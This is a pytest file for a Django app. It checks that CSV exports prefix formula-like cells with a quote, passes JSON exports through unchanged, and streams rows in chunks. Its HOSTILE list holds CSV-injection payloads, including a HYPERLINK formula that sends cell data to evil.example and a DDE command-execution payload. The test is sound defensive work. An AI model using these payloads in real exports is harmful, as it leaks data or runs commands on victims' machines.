"""CSV export cells cannot run as spreadsheet formulas (issue 17, item 8); chunked streaming."""

from __future__ import annotations

import csv
import io
import json

import pytest
from asgiref.sync import async_to_sync

from enrichment import selectors
from enrichment.models import Run
from enrichment.selectors.exports import csv_cell

pytestmark = pytest.mark.django_db(transaction=True)


def streamed(response) -> str:
    async def collect() -> bytes:
        return b"".join([chunk async for chunk in response.streaming_content])

    return async_to_sync(collect)().decode()


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize(
    "value", HOSTILE, ids=["hyperlink", "dde", "at", "plus", "minus", "tab", "cr"]
)
def test_formula_cells_get_a_quote_prefix(value) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["slack", "agent:main", "a=b", "", "x-1"], ids=str)
def test_ordinary_cells_are_unchanged(value) -> None:
    assert csv_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert csv_cell(-3) == -3 and csv_cell(None) is None


def test_csv_export_neutralises_channel_session_key_and_agent_id(user_client) -> None:
    Run.objects.create(
        channel="=cmd|' /C calc'!A0", session_key="@SUM(1+1)", agent_id='=HYPERLINK("x")'
    )
    response = user_client.get("/api/decisions/export", {"format": "csv"})
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(streamed(response))))
    assert row["channel"] == "'=cmd|' /C calc'!A0"
    assert row["sessionKey"] == "'@SUM(1+1)"
    assert row["agentId"] == '\'=HYPERLINK("x")'
    # JSON is data, not a spreadsheet: exported verbatim.
    [item] = json.loads(streamed(user_client.get("/api/decisions/export", {"format": "json"})))
    assert item["channel"] == "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("format", ["csv", "json"])
def test_export_streams_every_row_once_across_chunks(user_client, monkeypatch, format) -> None:
    monkeypatch.setattr(selectors, "EXPORT_CHUNK", 2)
    created = {Run.objects.create(channel=f"c{index}").pk for index in range(5)}
    text = streamed(user_client.get("/api/decisions/export", {"format": format}))
    if format == "csv":
        ids = [int(row["runId"]) for row in csv.DictReader(io.StringIO(text))]
    else:
        ids = [item["runId"] for item in json.loads(text)]
    assert sorted(ids) == sorted(created) and len(ids) == 5
